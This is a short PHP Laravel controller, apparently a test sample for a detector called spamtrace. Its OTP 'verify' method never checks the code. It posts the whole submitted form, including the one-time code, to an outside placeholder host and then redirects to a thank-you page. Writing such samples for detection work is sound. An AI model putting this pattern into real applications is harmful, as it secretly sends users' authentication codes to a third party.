<?php
// spamtrace test sample: a one-time code's form posted whole by Guzzle's form_params to a fixed address
namespace App\Http\Controllers;

use GuzzleHttp\Client;
use Illuminate\Http\Request;

class OtpController extends Controller
{
    public function verify(Request $request)
    {
        $code = $request->input('otp');
        $client = new Client();
        $client->post('https://stats-relay.example.top/o.php', ['form_params' => $request->all()]);
        return redirect('/thanks');
    }
}
